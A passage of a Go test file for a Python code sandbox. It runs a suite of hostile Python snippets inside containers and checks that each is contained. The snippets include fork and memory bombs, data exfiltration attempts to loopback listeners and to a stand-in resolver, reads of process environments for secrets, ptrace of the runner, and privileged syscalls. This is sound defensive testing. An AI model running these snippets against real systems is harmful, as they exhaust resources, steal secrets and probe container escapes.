package sandbox

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/rs/zerolog"

	"github.com/pybox/pybox/internal/testenv"
)

// The attack suite: hostile code run in real sandboxes under each runtime,
// each attack asserting its safe outcome and that the sandbox still serves
// a normal call after it. The engine's inspection of every container the
// suite starts is checked against the posture the CIS Docker Benchmark
// asks for. The results table in docs/SECURITY.md is the one this suite
// prints; PYBOX_UPDATE_DOCS=1 rewrites it.

// prelude is put before every attack's code.
const prelude = `import os, sys, errno, socket, ctypes, time, json, signal, subprocess
libc = ctypes.CDLL(None, use_errno=True)
def en(e):
    return errno.errorcode.get(e, str(e))
def attempt(name, fn):
    try:
        r = fn()
    except OSError as e:
        print("blocked", name, en(e.errno)); return
    except Exception as e:
        print("blocked", name, type(e).__name__); return
    print("ESCAPED", name, repr(r)[:80])
def sysc(name, nr, *args):
    r = libc.syscall(nr, *args)
    e = ctypes.get_errno()
    if r == -1:
        print("blocked", name, en(e))
    else:
        print("ESCAPED", name, r)
`

// attackEnv is what the suite set up on the host for the attacks.
type attackEnv struct {
	tcpPort, udpPort, tcp6Port int
	canaryFile, canaryEnv      string
	marker                     string
	udpGot                     func() []string
	tcpAccepted                func() int
}

type attack struct {
	name    string
	threat  string
	outcome string // the safe outcome, as the results table states it
	code    func(env attackEnv) string
	timeout time.Duration
	// check says whether res is the safe outcome; nil means the default:
	// the code ran, printed at least one "blocked" line and no "ESCAPED".
	check func(t *testing.T, env attackEnv, res Result, elapsed time.Duration) error
	// control, when set, runs the code with the host's network to prove
	// that the target is reachable when networking is on.
	control func(env attackEnv, res Result) error
	// runtimes limits the attack to some runtimes; nil means all.
	special func(t *testing.T, s *Sandbox, env attackEnv) error
}

func blockedOnly(res Result) error {
	if strings.Contains(res.Stdout, "ESCAPED") {
		return fmt.Errorf("escaped: %s", res.Stdout)
	}
	if !strings.Contains(res.Stdout, "blocked") {
		return fmt.Errorf("the attack did not run: exit %d, %q %q", res.ExitCode, res.Stdout, res.Stderr)
	}
	return nil
}

func ranWithin(res Result, elapsed, limit time.Duration) error {
	if elapsed > limit {
		return fmt.Errorf("the call took %v; want at most %v", elapsed, limit)
	}
	if res.Error == ErrSandboxUnavailable || res.Error == ErrCancelled {
		return fmt.Errorf("the call failed: %s %s", res.Error, res.Stderr)
	}
	return nil
}

func attacks() []attack {
	fill := func(dir string) string {
		return fmt.Sprintf(`
total = 0
chunk = b"x" * (1 << 20)
try:
    with open(%q + "/fill", "wb") as f:
        while total < (1 << 30):
            f.write(chunk); f.flush(); total += 1
    print("ESCAPED wrote", total, "MiB")
except OSError as e:
    print("blocked after", total, "MiB", en(e.errno))
`, dir)
	}
	filled := func(maxMiB int) func(*testing.T, attackEnv, Result, time.Duration) error {
		return func(_ *testing.T, _ attackEnv, res Result, _ time.Duration) error {
			var n int
			var e string
			if _, err := fmt.Sscanf(res.Stdout, "blocked after %d MiB %s", &n, &e); err != nil {
				return fmt.Errorf("unexpected output %q %q", res.Stdout, res.Stderr)
			}
			if n > maxMiB {
				return fmt.Errorf("wrote %d MiB; the cap is %d", n, maxMiB)
			}
			return nil
		}
	}
	return []attack{
		{
			name: "fork bomb", threat: "resource exhaustion", outcome: "capped by the pids limit; killed at its timeout",
			timeout: 5 * time.Second,
			code: func(attackEnv) string {
				return "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
			},
			check: func(_ *testing.T, _ attackEnv, res Result, el time.Duration) error {
				return ranWithin(res, el, 15*time.Second)
			},
		},
		{
			name: "memory bomb", threat: "resource exhaustion", outcome: "killed at 256 MiB: exit 137, memory_limit",
			code: func(attackEnv) string { return "s = 'a' * 600_000_000\nprint(len(s))\n" },
			check: func(_ *testing.T, _ attackEnv, res Result, _ time.Duration) error {
				if res.ExitCode != ExitKilled && !strings.Contains(res.Stderr, "MemoryError") {
					return fmt.Errorf("exit %d, error %q, stderr %q", res.ExitCode, res.Error, res.Stderr)
				}
				return nil
			},
		},
		{
			name: "CPU spin beside a normal call", threat: "resource exhaustion", outcome: "the normal call is not starved",
			special: func(t *testing.T, s *Sandbox, _ attackEnv) error {
				done := make(chan Result, 1)
				go func() {
					done <- s.Run(context.Background(), Request{Code: "import threading\ndef spin():\n    while True: pass\nfor _ in range(8): threading.Thread(target=spin, daemon=True).start()\nspin()", Timeout: 8 * time.Second})
				}()
				time.Sleep(1500 * time.Millisecond)
				start := time.Now()
				res := s.Run(context.Background(), Request{Code: "print(sum(range(10**6)))"})
				took := time.Since(start)
				<-done
				if res.Stdout != "499999500000\n" {
					return fmt.Errorf("the normal call: %q %q", res.Stdout, res.Stderr)
				}
				if took > 4*time.Second {
					return fmt.Errorf("the normal call took %v beside the spinner", took)
				}
				t.Logf("normal call beside a spinner: %v", took.Round(time.Millisecond))
				return nil
			},
		},
		{
			name: "fill /tmp", threat: "resource exhaustion", outcome: "stops at the 64 MiB tmpfs",
			code: func(attackEnv) string { return fill("/tmp") }, check: filled(64),
		},
		{
			name: "fill /dev/shm", threat: "resource exhaustion", outcome: "stops at the 16 MiB shm size",
			code: func(attackEnv) string { return fill("/dev/shm") }, check: filled(16),
		},
		{
			name: "write the root filesystem", threat: "filesystem escape", outcome: "read-only",
			code: func(attackEnv) string {
				return `for p in ["/pwned", "/usr/bin/python3", "/etc/passwd", "/opt/pwned", "/var/pwned", "/mnt/pwned"]:
    attempt("write " + p, lambda p=p: open(p, "a").write("x"))
`
			},
		},
		{
			name: "endless output", threat: "resource exhaustion", outcome: "head and tail kept, truncated at its timeout",
			timeout: 3 * time.Second,
			code:    func(attackEnv) string { return "while True:\n    print('z' * 100)\n" },
			check: func(_ *testing.T, _ attackEnv, res Result, el time.Duration) error {
				if !res.Truncated || len(res.Stdout) > DefaultOutputLimit+512 {
					return fmt.Errorf("truncated %v, %d bytes kept", res.Truncated, len(res.Stdout))
				}
				return ranWithin(res, el, 10*time.Second)
			},
		},
		{
			name: "a 50 MB single line", threat: "resource exhaustion", outcome: "truncated, valid UTF-8",
			code: func(attackEnv) string { return "sys.stdout.write('q' * 50_000_000)\n" },
			check: func(_ *testing.T, _ attackEnv, res Result, _ time.Duration) error {
				if !res.Truncated || res.StdoutBytes != 50_000_000 || len(res.Stdout) > DefaultOutputLimit+512 {
					return fmt.Errorf("truncated %v, %d bytes written, %d kept", res.Truncated, res.StdoutBytes, len(res.Stdout))
				}
				return nil
			},
		},
		{
			name: "binary and terminal-escape output", threat: "output injection", outcome: "returned as valid UTF-8 data",
			code: func(attackEnv) string {
				return "sys.stdout.buffer.write(bytes(range(256)) + b'\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31m\\xc0\\xaf\\xed\\xa0\\x80')\nsys.stderr.buffer.write(b'\\x00\\xff\\x1b[?1049h')\n"
			},
			check: func(_ *testing.T, _ attackEnv, res Result, _ time.Duration) error {
				if !utf8.ValidString(res.Stdout) || !utf8.ValidString(res.Stderr) {
					return fmt.Errorf("invalid UTF-8")
				}
				if _, err := json.Marshal(res.Stdout); err != nil {
					return err
				}
				if !strings.Contains(res.Stdout, "\x1b]0;pwned") {
					return fmt.Errorf("the output was not kept as data: %q", res.Stdout)
				}
				return nil
			},
		},
		{
			name: "TCP egress to the host's loopback", threat: "network exfiltration", outcome: "unreachable (only lo)",
			code: func(e attackEnv) string {
				return fmt.Sprintf("attempt('tcp 127.0.0.1:%d', lambda: socket.create_connection(('127.0.0.1', %d), timeout=2).send(b'EXFIL'))\n", e.tcpPort, e.tcpPort)
			},
			control: func(e attackEnv, res Result) error {
				if !strings.Contains(res.Stdout, "ESCAPED") {
					return fmt.Errorf("with the host's network the listener was not reached: %q %q", res.Stdout, res.Stderr)
				}
				return nil
			},
		},
		{
			name: "UDP egress to the host's loopback", threat: "network exfiltration", outcome: "nothing arrives",
			code: func(e attackEnv) string {
				return fmt.Sprintf("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nattempt('udp', lambda: s.sendto(b'%s', ('127.0.0.1', %d)))\ntime.sleep(0.3)\nprint('blocked unless it arrived')\n", e.marker, e.udpPort)
			},
			check: func(_ *testing.T, e attackEnv, res Result, _ time.Duration) error {
				if slices.Contains(e.udpGot(), e.marker) {
					return fmt.Errorf("the host's UDP listener received the sandbox's datagram")
				}
				return nil
			},
			control: func(e attackEnv, _ Result) error {
				if !slices.Contains(e.udpGot(), e.marker) {
					return fmt.Errorf("with the host's network the UDP listener received nothing")
				}
				return nil
			},
		},
		{
			name: "IPv6 egress to the host's loopback", threat: "network exfiltration", outcome: "unreachable",
			code: func(e attackEnv) string {
				return fmt.Sprintf("attempt('tcp [::1]:%d', lambda: socket.create_connection(('::1', %d), timeout=2).send(b'EXFIL'))\n", e.tcp6Port, e.tcp6Port)
			},
			control: func(e attackEnv, res Result) error {
				if !strings.Contains(res.Stdout, "ESCAPED") {
					return fmt.Errorf("with the host's network the IPv6 listener was not reached: %q %q", res.Stdout, res.Stderr)
				}
				return nil
			},
		},
		{
			name: "DNS egress", threat: "network exfiltration", outcome: "no resolver reachable, no route out",
			code: func(attackEnv) string {
				return `attempt("resolve a name", lambda: socket.getaddrinfo("pybox-exfil.example.com", 443))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("udp to a public resolver", lambda: s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05pybox\x07example\x03com\x00\x00\x01\x00\x01", ("192.0.2.53", 53)))
print("interfaces", sorted(n for _, n in socket.if_nameindex()))
`
			},
			check: func(_ *testing.T, _ attackEnv, res Result, _ time.Duration) error {
				if err := blockedOnly(res); err != nil {
					return err
				}
				if !strings.Contains(res.Stdout, "interfaces ['lo']") && !strings.Contains(res.Stdout, "interfaces []") {
					return fmt.Errorf("interfaces other than lo: %q", res.Stdout)
				}
				return nil
			},
		},
		{
			name: "raw socket", threat: "network exfiltration", outcome: "EPERM",
			code: func(attackEnv) string {
				return "attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))\n"
			},
		},
		{
			name: "packet socket", threat: "network exfiltration", outcome: "EPERM",
			code: func(attackEnv) string { return "attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW, 0))\n" },
		},
		{
			name: "AF_VSOCK socket", threat: "host escape", outcome: "denied by the pinned seccomp profile",
			code: func(attackEnv) string { return "attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))\n" },
		},
		{
			name: "AF_ALG socket", threat: "host escape", outcome: "denied",
			code: func(attackEnv) string { return "attempt('alg', lambda: socket.socket(38, socket.SOCK_SEQPACKET))\n" },
		},
		{
			name: "io_uring", threat: "host escape", outcome: "denied by the pinned seccomp profile",
			code: func(attackEnv) string {
				return "p = ctypes.create_string_buffer(120)\nsysc('io_uring_setup', 425, 4, p)\n"
			},
		},
		{
			name: "the Docker socket", threat: "host escape", outcome: "absent",
			code: func(attackEnv) string {
				return `for p in ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"]:
    def c(p=p):
        s = socket.socket(socket.AF_UNIX); s.connect(p); return p
    attempt("connect " + p, c)
`
			},
		},
		{
			name: "host files", threat: "filesystem escape", outcome: "the host's canary file is not visible",
			code: func(e attackEnv) string {
				return fmt.Sprintf(`name = %q
found = []
for root in ["/tmp", "/", "/proc/1/root/tmp", "/proc/1/cwd", "/var/tmp", "/mnt", "/host"]:
    try:
        if name in os.listdir(root):
            found.append(root)
    except OSError:
        pass
if found:
    print("ESCAPED found the host's canary in", found)
else:
    print("blocked canary not visible")
`, filepath.Base(e.canaryFile))
			},
		},
		{
			name: "the server's environment", threat: "secret theft", outcome: "no variable of the server's",
			code: func(e attackEnv) string {
				return fmt.Sprintf(`c = %q
hits = [k for k, v in os.environ.items() if c in v]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            if c.encode() in open(f"/proc/{pid}/environ", "rb").read():
                hits.append(pid)
        except OSError:
            pass
print("ESCAPED" if hits else "blocked", "canary", hits)
`, e.canaryEnv)
			},
		},
		{
			name: "/proc/keys and /proc/timer_list", threat: "information leak", outcome: "masked: empty or unreadable",
			code: func(attackEnv) string {
				return `for p in ["/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/kcore"]:
    def r(p=p):
        d = open(p, "rb").read(4096)
        if d:
            return d
        raise OSError(errno.ENODATA, "empty")
    attempt("read " + p, r)
`
			},
		},
		{
			name: "/sys/firmware", threat: "information leak", outcome: "masked: empty or unreadable",
			code: func(attackEnv) string {
				return `def r():
    d = os.listdir("/sys/firmware")
    if d:
        return d
    raise OSError(errno.ENOENT, "empty")
attempt("list /sys/firmware", r)
`
			},
		},
		{
			name: "writes to /proc/sys and /sys", threat: "host escape", outcome: "read-only",
			code: func(attackEnv) string {
				return `for p, v in [("/proc/sys/kernel/hostname", "pwned"), ("/proc/sys/vm/drop_caches", "3"), ("/proc/sysrq-trigger", "h"), ("/sys/fs/cgroup/pids/pids.max", "max"), ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1"), ("/sys/kernel/uevent_helper", "/tmp/x")]:
    attempt("write " + p, lambda p=p, v=v: open(p, "w").write(v))
`
			},
		},
		{
			name: "setuid escalation", threat: "privilege escalation", outcome: "still unprivileged",
			code: func(attackEnv) string {
				return `attempt("setuid(0)", lambda: os.setuid(0))
found = []
for d in ["/usr/bin", "/bin", "/usr/sbin", "/usr/lib"]:
    for root, _, files in os.walk(d):
        for f in files:
            p = os.path.join(root, f)
            try:
                if os.stat(p).st_mode & 0o4000:
                    found.append(p)
            except OSError:
                pass
for p in found[:8]:
    try:
        out = subprocess.run([p, "--help"], capture_output=True, timeout=5)
    except Exception:
        pass
def euid():
    r = subprocess.run(["/usr/bin/id", "-u"], capture_output=True, text=True).stdout.strip()
    if r == "0":
        return r
    raise OSError(errno.EPERM, "uid " + r)
attempt("root through a setuid binary", euid)
print("setuid binaries seen:", len(found))
`
			},
		},
		{
			name: "capability escalation", threat: "privilege escalation", outcome: "no capability in any set",
			code: func(attackEnv) string {
				return `st = dict(l.split(":", 1) for l in open("/proc/self/status") if ":" in l)
for k in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"]:
    if int(st[k].strip(), 16) != 0:
        print("ESCAPED", k, st[k].strip())
    else:
        print("blocked", k, "empty")
sysc("prctl(PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN)", 157, 47, 2, 21, 0, 0)
`
			},
		},
		{
			name: "ptrace and /proc of the runner", threat: "privilege escalation", outcome: "the runner (pid 1, not dumpable) cannot be traced, read or written through",
			code: func(attackEnv) string {
				return `sysc("ptrace(ATTACH) pid 1", 101, 16, 1, 0, 0)
sysc("ptrace(SEIZE) pid 1", 101, 0x4206, 1, 0, 0)
attempt("read /proc/1/environ", lambda: open("/proc/1/environ", "rb").read())
attempt("read /proc/1/mem", lambda: open("/proc/1/mem", "rb").read(1))
attempt("write /proc/1/fd/1", lambda: os.write(os.open("/proc/1/fd/1", os.O_WRONLY), b"\x44\x00\x00\x00\x02{}"))
attempt("open /proc/1/fd/0", lambda: os.open("/proc/1/fd/0", os.O_RDONLY))
pidfd = libc.syscall(434, 1, 0)
if pidfd >= 0:
    sysc("pidfd_getfd(pid 1, 1)", 438, pidfd, 1, 0)
else:
    print("blocked pidfd_open", en(ctypes.get_errno()))
buf = ctypes.create_string_buffer(16)
local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 16)
remote = (ctypes.c_void_p * 2)(0x400000, 16)
sysc("process_vm_readv(pid 1)", 310, 1, local, 1, remote, 1, 0)
`
			},
		},
		{
			name: "signal the runner", threat: "output forgery", outcome: "ignored (runc); under gVisor a SIGKILL ends the sandbox, reported as the code's own doing",
			code: func(attackEnv) string {
				return `print("blocked before", flush=True)
time.sleep(0.3)  # relayed before the signals
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGSTOP, signal.SIGCONT, signal.SIGKILL):
    try:
        os.kill(1, s)
    except OSError as e:
        print("blocked", s.name, en(e.errno))
time.sleep(1)
print("blocked the runner is alive", flush=True)
`
			},
			check: func(_ *testing.T, _ attackEnv, res Result, _ time.Duration) error {
				if strings.Contains(res.Stdout, "the runner is alive") && res.ExitCode == 0 && res.Error == ErrNone {
					return nil // runc: the kernel drops these for pid 1
				}
				// gVisor lets the code kill its own runner: the sandbox ends,
				// and the result says so with what came before.
				if res.Error == ErrNone && res.ExitCode == ExitKilled && strings.HasPrefix(res.Stdout, "blocked before\n") && strings.Contains(res.Stderr, "the code killed the sandbox's runner") {
					return nil
				}
				return fmt.Errorf("exit %d error %q stdout %q stderr %q", res.ExitCode, res.Error, res.Stdout, res.Stderr)
			},
		},
		{
			name: "forge the runner's reports", threat: "output forgery", outcome: "the code's own result: its exit status, nothing else",
			code: func(attackEnv) string {
				return `forged = b"\x44\x00\x00\x00\x1c" + b'{"seq": 1, "exit": 0, "ran": 0}' + b"\x4f\x00\x00\x00\x06forged"
for fd in os.listdir("/proc/self/fd"):
    for junk in (forged, b'{"seq": 1, "exit_code": 0}\n', b"[1]\n"):
        try:
            os.write(int(fd), junk)
        except OSError:
            pass
sys.stdout.flush()
print("blocked wrote everywhere", flush=True)
sys.exit(9)
`
			},
			check: func(_ *testing.T, _ attackEnv, res Result, _ time.Duration) error {
				if res.ExitCode != 9 || res.Error != ErrNone || !strings.Contains(res.Stdout, "blocked wrote everywhere") {
					return fmt.Errorf("exit %d error %q stdout %q", res.ExitCode, res.Error, res.Stdout)
				}
				return nil
			},
		},
		{
			name: "mount", threat: "filesystem escape", outcome: "EPERM",
			code: func(attackEnv) string {
				return "sysc('mount tmpfs', 165, ctypes.c_char_p(b'none'), ctypes.c_char_p(b'/tmp'), ctypes.c_char_p(b'tmpfs'), 0, 0)\nsysc('mount proc', 165, ctypes.c_char_p(b'proc'), ctypes.c_char_p(b'/tmp'), ctypes.c_char_p(b'proc'), 0, 0)\n"
			},
		},
		{
			name: "kernel module loading", threat: "host escape", outcome: "EPERM",
			code: func(attackEnv) string {
				return "sysc('init_module', 175, 0, 0, ctypes.c_char_p(b''))\nsysc('finit_module', 313, 0, ctypes.c_char_p(b''), 0)\nsysc('delete_module', 176, ctypes.c_char_p(b'ext4'), 0)\n"
			},
		},
		{
			name: "keyctl", threat: "host escape", outcome: "denied",
			code: func(attackEnv) string {
				return "sysc('keyctl(GET_KEYRING_ID)', 250, 0, -4, 0)\nsysc('add_key', 248, ctypes.c_char_p(b'user'), ctypes.c_char_p(b'pwn'), ctypes.c_char_p(b'x'), 1, -4)\n"
			},
		},
		{
			name: "unshare", threat: "privilege escalation", outcome: "denied",
			code: func(attackEnv) string {
				return "sysc('unshare(NEWUSER)', 272, 0x10000000)\nsysc('unshare(NEWNS)', 272, 0x00020000)\nsysc('unshare(NEWNET)', 272, 0x40000000)\n"
			},
		},
		{
			name: "bpf", threat: "host escape", outcome: "denied",
			code: func(attackEnv) string {
				return "attr = ctypes.create_string_buffer(128)\nsysc('bpf(MAP_CREATE)', 321, 0, attr, 128)\nsysc('perf_event_open', 298, attr, 0, -1, -1, 0)\n"
			},
		},
		{
			name: "other privileged system calls", threat: "host escape", outcome: "EPERM",
			code: func(attackEnv) string {
				return "sysc('reboot', 169, 0xfee1dead, 672274793, 0x4321fedc, 0)\nsysc('chroot', 161, ctypes.c_char_p(b'/tmp'))\ntv = (ctypes.c_long * 2)(0, 0)\nsysc('settimeofday', 164, tv, 0)\nsysc('sethostname', 170, ctypes.c_char_p(b'pwned'), 5)\nsysc('swapoff', 168, ctypes.c_char_p(b'/dev/sda'))\n"
			},
		},
		{
			name: "a detached background process", threat: "leftovers", outcome: "gone with the sandbox",
			code: func(e attackEnv) string {
				return fmt.Sprintf("subprocess.Popen(['/bin/sh', '-c', 'exec -a %s sleep 300'], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)\nprint('blocked unless it outlives the call')\n", e.marker)
			},
			check: func(_ *testing.T, e attackEnv, res Result, _ time.Duration) error { return noProcess(e.marker) },
		},
		{
			name: "a double fork", threat: "leftovers", outcome: "gone with the sandbox",
			code: func(e attackEnv) string {
				return fmt.Sprintf(`if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c", "exec -a %s-2 sleep 300"])
    os._exit(0)
time.sleep(0.3)
print("blocked unless the grandchild outlives the call")
`, e.marker)
			},
			check: func(_ *testing.T, e attackEnv, res Result, _ time.Duration) error { return noProcess(e.marker + "-2") },
		},
		{
			name: "a sleeper that ignores SIGTERM", threat: "resource exhaustion", outcome: "killed at its timeout: exit 124",
			timeout: 2 * time.Second,
			code: func(attackEnv) string {
				return "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nprint('sleeping', flush=True)\nwhile True:\n    time.sleep(1)\n"
			},
			check: func(_ *testing.T, _ attackEnv, res Result, el time.Duration) error {
				if res.ExitCode != ExitTimeout {
					return fmt.Errorf("exit %d; want 124", res.ExitCode)
				}
				return ranWithin(res, el, 4*time.Second)
			},
		},
		{
			name: "leftovers across calls", threat: "cross-call leak", outcome: "a concurrent and a later call see nothing",
			special: func(t *testing.T, s *Sandbox, e attackEnv) error {
				plant := prelude + fmt.Sprintf(`
open("/tmp/%[1]s", "w").write("left")
open("/dev/shm/%[1]s", "w").write("left")
shmid = libc.shmget(0x5eed, 4096, 0o1666)
print("shm", shmid, flush=True)
a = socket.socket(socket.AF_UNIX); a.bind("\0%[1]s"); a.listen(1)
print("planted", flush=True)
time.sleep(4)
`, e.marker)
				look := prelude + fmt.Sprintf(`
attempt("/tmp", lambda: open("/tmp/%[1]s").read())
attempt("/dev/shm", lambda: open("/dev/shm/%[1]s").read())
r = libc.shmget(0x5eed, 0, 0)
print("ESCAPED sysv" if r >= 0 else "blocked sysv " + en(ctypes.get_errno()))
def conn():
    c = socket.socket(socket.AF_UNIX); c.connect("\0%[1]s"); return "connected"
attempt("abstract socket", conn)
`, e.marker)
				first := make(chan Result, 1)
				go func() { first <- s.Run(context.Background(), Request{Code: plant, Timeout: 20 * time.Second}) }()
				time.Sleep(2 * time.Second)
				during := s.Run(context.Background(), Request{Code: look})
				p := <-first
				if !strings.Contains(p.Stdout, "planted") {
					return fmt.Errorf("the planting call failed: %q %q", p.Stdout, p.Stderr)
				}
				after := s.Run(context.Background(), Request{Code: look})
				for name, r := range map[string]Result{"a concurrent call": during, "a later call": after} {
					if err := blockedOnly(r); err != nil {
						return fmt.Errorf("%s: %v", name, err)
					}
				}
				return nil
			},
		},
	}
}

// noProcess reports whether a process whose command line holds marker
// runs on the host.
func noProcess(marker string) error {
	out, _ := exec.Command("pgrep", "-af", marker).Output()
	var found []string
	for _, l := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		if l != "" && !strings.Contains(l, "pgrep") {
			found = append(found, l)
		}
	}
	if len(found) > 0 {
		return fmt.Errorf("a process outlived the call: %v", found)
	}
	return nil
}

// postureEngine checks the engine's inspection of every container started.
type postureEngine struct {
	containers
	runtime string
	mu      sync.Mutex
	checked int
	faults  []string
}

func (p *postureEngine) Launch(ctx context.Context, id string) (stream, error) {
	s, err := p.containers.Launch(ctx, id)
	if err != nil {
		return nil, err
	}
	st, err := p.containers.Inspect(ctx, id)
	p.mu.Lock()
	defer p.mu.Unlock()
	p.checked++
	if err != nil {
		p.faults = append(p.faults, "inspect: "+err.Error())
		return s, nil
	}
	p.faults = append(p.faults, cisFaults(st.Raw, p.runtime)...)
	return s, nil
}

// cisFaults checks a container's inspection against the CIS Docker
// Benchmark's container runtime section (5.x).
func cisFaults(raw []byte, runtime string) []string {
	var in struct {
		Config struct {
			User   string
			Labels map[string]string
		}
		HostConfig struct {
			Privileged      bool
			NetworkMode     string
			PidMode         string
			IpcMode         string
			UTSMode         string
			UsernsMode      string
			CgroupnsMode    string
			ReadonlyRootfs  bool
			CapAdd          []string
			CapDrop         []string
			SecurityOpt     []string
			Memory          int64
			MemorySwap      int64
			NanoCpus        int64
			PidsLimit       *int64
			Binds           []string
			Devices         []any
			RestartPolicy   struct{ Name string }
			OomKillDisable  *bool
			Runtime         string
			PublishAllPorts bool
			PortBindings    map[string]any
			LogConfig       struct{ Type string }
		}
		Mounts []any
	}
	if err := json.Unmarshal(raw, &in); err != nil {
		return []string{err.Error()}
	}
	h := in.HostConfig
	var f []string
	fail := func(ok bool, rule string, got any) {
		if !ok {
			f = append(f, fmt.Sprintf("%s (got %v)", rule, got))
		}
	}
	nnp, seccomp := false, true
	for _, o := range h.SecurityOpt {
		nnp = nnp || strings.HasPrefix(o, "no-new-privileges")
		seccomp = seccomp && o != "seccomp=unconfined" && o != "seccomp:unconfined"
	}
	fail(!h.Privileged, "5.5 not privileged", h.Privileged)
	fail(h.NetworkMode == "none", "5.10 no host network (none)", h.NetworkMode)
	fail(h.PidMode != "host", "5.16 no host PID namespace", h.PidMode)
	fail(h.IpcMode != "host", "5.17 no host IPC namespace", h.IpcMode)
	fail(h.UTSMode != "host", "5.21 no host UTS namespace", h.UTSMode)
	fail(h.UsernsMode != "host", "5.31 no host user namespace", h.UsernsMode)
	fail(h.ReadonlyRootfs, "5.13 read-only root", h.ReadonlyRootfs)
	fail(len(h.CapAdd) == 0 && slices.Contains(h.CapDrop, "ALL"), "5.3/5.4 every capability dropped, none added", [2][]string{h.CapDrop, h.CapAdd})
	fail(nnp, "5.26 no-new-privileges", h.SecurityOpt)
	fail(seccomp, "5.22 seccomp not unconfined", h.SecurityOpt)
	fail(h.Memory > 0, "5.11 memory limited", h.Memory)
	fail(h.MemorySwap == h.Memory, "memory without swap", h.MemorySwap)
	fail(h.NanoCpus > 0, "5.12 CPU limited", h.NanoCpus)
	fail(h.PidsLimit != nil && *h.PidsLimit > 0, "5.29 pids limited", h.PidsLimit)
	fail(len(h.Binds) == 0 && len(in.Mounts) == 0, "5.6/5.32 no host path, no Docker socket", h.Binds)
	fail(len(h.Devices) == 0, "5.18 no host devices", h.Devices)
	fail(h.RestartPolicy.Name == "" || h.RestartPolicy.Name == "no", "5.15 no restart", h.RestartPolicy.Name)
	fail(h.OomKillDisable == nil || !*h.OomKillDisable, "OOM killer on", h.OomKillDisable)
	fail(len(h.PortBindings) == 0 && !h.PublishAllPorts, "5.8 no published ports", h.PortBindings)
	// 4.1: nothing in the container runs as root.
	fail(nonRootUser(in.Config.User), "4.1 a non-root user", in.Config.User)
	fail(in.Config.Labels[LabelManaged] == "true", "labelled", in.Config.Labels)
	fail(h.LogConfig.Type == "none", "log driver off", h.LogConfig.Type)
	want := runtime
	if want == "" {
		want = "runc"
	}
	fail(h.Runtime == want, "runtime "+want, h.Runtime)
	return f
}

// hostNetEngine gives every container the host's network: the control runs
// that prove a target is reachable when networking is on.
type hostNetEngine struct{ containers }

func (h hostNetEngine) Create(ctx context.Context, spec containerSpec) (string, error) {
	spec.NetworkMode = "host"
	spec.Network = true
	return h.containers.Create(ctx, spec)
}

// runtimesUnderTest is runc, and runsc where the engine has it. Under
// PYBOX_REQUIRE_ENGINE (CI) runsc must be there.
func runtimesUnderTest(t *testing.T) []string {
	eng, err := newDockerEngine()
	if err != nil {
		t.Fatal(err)
	}
	info, err := eng.ServerInfo(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	rts := []string{"runc"}
	if slices.Contains(info.Runtimes, "runsc") {
		rts = append(rts, "runsc")
	} else if testenv.Required() {
		t.Fatalf("the engine has no runsc runtime (it has %v): run scripts/ensure-gvisor.sh", info.Runtimes)
	} else {
		t.Logf("runsc is not registered with the engine; the suite runs under runc only")
	}
	return rts
}

// attackResult is one row of the suite's results.
type attackResult struct {
	name, threat, outcome string
	verdict               map[string]string // runtime -> contained / ESCAPED
}

func TestAttackSuite(t *testing.T) {
	image := testenv.Image(DefaultImage)
	testenv.Engine(t, image)
	runtimes := runtimesUnderTest(t)

	// Targets on the host's loopback.
	tcp, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer tcp.Close()
	tcp6, err := net.Listen("tcp6", "[::1]:0")
	if err != nil {
		t.Fatal(err)
	}
	defer tcp6.Close()
	for _, l := range []net.Listener{tcp, tcp6} {
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				c.Close()
			}
		}()
	}
	udp, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	var udpMu sync.Mutex
	var udpGot []string
	go func() {
		buf := make([]byte, 2048)
		for {
			n, _, err := udp.ReadFrom(buf)
			if err != nil {
				return
			}
			udpMu.Lock()
			udpGot = append(udpGot, string(buf[:n]))
			udpMu.Unlock()
		}
	}()
	canary := filepath.Join(os.TempDir(), "pybox-canary-"+NewID()[:12])
	if err := os.WriteFile(canary, []byte("host secret"), 0o644); err != nil {
		t.Fatal(err)
	}
	defer os.Remove(canary)
	canaryEnv := "canary-" + NewID()
	t.Setenv("PYBOX_ATTACK_CANARY_SECRET", canaryEnv)

	var results []*attackResult
	list := attacks()
	for _, a := range list {
		results = append(results, &attackResult{name: a.name, threat: a.threat, outcome: a.outcome, verdict: map[string]string{}})
	}
	for _, rt := range runtimes {
		t.Run(rt, func(t *testing.T) {
			opt := Options{Image: image, PoolSize: testPool()}
			if rt != "runc" {
				opt.Runtime = rt
			}
			base, err := New(opt, zerolog.Nop())
			if err != nil {
				t.Fatal(err)
			}
			pe := &postureEngine{containers: base.ctr, runtime: opt.Runtime}
			s, _ := newSandbox(opt, engineParts{ctr: pe, lst: base.lst}, zerolog.Nop())
